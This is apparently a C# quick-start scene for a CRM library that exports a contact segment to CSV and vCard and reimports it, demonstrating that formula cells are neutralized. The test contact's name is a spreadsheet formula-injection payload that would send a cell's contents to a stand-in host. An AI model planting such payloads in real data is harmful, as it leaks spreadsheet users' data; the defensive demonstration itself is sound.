using System.Text;
using Crm;
using Crm.Contacts;
using Crm.Export;
using Crm.Filters;
using Crm.Import;
using Spectre.Console;

namespace QuickStart.Scenes;

/// <summary>A segment leaves as CSV, in which no cell is a formula, and as vCards, and comes back as it was.</summary>
internal static class ExportScene
{
    public static async Task PlayAsync(Offices offices)
    {
        await using var crm = offices.Kyiv("maria", "head");

        // The unit is not committed: whom it makes is exported, and then was never there.
        await using var unit = await crm.BeginAsync();
        await crm.Contacts.CreateAsync(new Contact
        {
            Name = "=HYPERLINK(\"http://example.com/?\"&A1)",
            BirthDate = DateOnly.FromDateTime(DateTime.UtcNow).AddDays(10).AddYears(-30),
            Phones = ["+380501234567"],
            Addresses = [new PostalAddress { City = "Львів", Country = "UA" }],
            Tags = ["vip"],
        });

        using var csv = new MemoryStream();
        ValueList<string> columns = ["recordId", "name", "phones[0].number", "address[0].city", "tags"];
        var settings = new ExportSettings { Columns = columns, Filter = Filter.InSegment("birthdays"), OrderBy = PartyModel.Name };
        var (report, took) = await Screen.TimedAsync(() => crm.Exports.ExportContactsAsync(csv, settings));
        Screen.Say($"[bold]{report.Records:N0} contacts[/] of the segment [bold]birthdays[/] as {csv.Length / 1024.0:N1} KB of CSV in {took}; {report.NeutralizedCells} cell was a formula.");
        var lines = Encoding.UTF8.GetString(csv.ToArray()).Split("\r\n");
        Show([.. lines.Where(line => line.Contains("HYPERLINK", StringComparison.Ordinal))]);

        csv.Position = 0;
        var back = await crm.Imports.ImportAsync(csv);
        Screen.Say($"Imported again, by the ids of the records: {back.Unchanged:N0} unchanged, {back.Rejected} rejected.");

        using var cards = new MemoryStream();
        await crm.Exports.ExportContactsAsync(cards, settings with { Format = FileFormat.VCard });
        Screen.Say($"The same as vCards, {cards.Length / 1024.0:N1} KB. The first of them:");
        Show([.. Encoding.UTF8.GetString(cards.ToArray()).Split("\r\n").TakeWhile(line => line != "END:VCARD").Take(9)]);
    }

    private static void Show(string[] lines) =>
        AnsiConsole.Write(new Padder(new Text(string.Join('\n', lines), new Style(Color.Grey)), new Padding(2, 0, 2, 1)));
}
